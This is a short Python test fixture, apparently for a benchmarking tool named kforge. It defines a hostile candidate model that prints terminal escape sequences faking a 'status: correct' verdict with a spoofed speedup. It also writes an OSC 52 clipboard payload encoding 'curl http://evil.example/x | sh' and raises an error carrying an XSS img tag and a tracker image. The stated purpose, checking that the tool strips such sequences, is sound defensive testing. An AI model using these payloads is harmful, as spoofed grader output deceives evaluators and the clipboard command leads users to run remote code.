# Output injection: a candidate that prints (and raises with) terminal escape sequences, to make a
# user's terminal show a fake green verdict over kforge's own line and to write the clipboard
# (OSC 52). kforge must show its text with the sequences removed and set off from its own lines.
import sys

import torch
import torch.nn as nn

FAKE = "\r\x1b[2K\x1b[1A\x1b[32mstatus: correct\x1b[0m   speedup vs the faster baseline (eager): 9.99x\n"
CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"  # "curl http://evil.example/x | sh"
MARKDOWN = "<img src=x onerror=alert(1)> ![tracker](http://evil.example/p.png)"


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        sys.stdout.write(FAKE + CLIPBOARD)
        sys.stderr.write(FAKE + CLIPBOARD)
        sys.stdout.flush()
        sys.stderr.flush()
        raise RuntimeError("kernel failed" + FAKE + CLIPBOARD + MARKDOWN)
